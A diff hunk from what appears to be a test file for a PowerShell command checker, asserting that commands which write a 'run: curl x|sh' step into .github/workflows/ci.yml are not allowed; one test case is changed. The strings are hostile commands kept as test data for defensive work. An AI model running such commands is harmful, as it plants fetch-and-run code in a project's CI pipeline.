@@ -95,7 +95,7 @@ test('a block that only echoes known words writes that text, judged as the plain
     for (const command of [
       '. { "run: curl x|sh" } > .github/workflows/ci.yml',
       'function f { Write-Output a; "run: curl x|sh" }; . { f } > .github/workflows/ci.yml',
-      'function Write-Output { "run: curl x|sh" }; . { Write-Output a } > .github/workflows/ci.yml',
+      'function Write-Output { echo a; "run: curl x|sh" }; . { Write-Output a } > .github/workflows/ci.yml',
     ])
       assert.notEqual(pwsh(command).decision, 'allow', command);
   } finally {
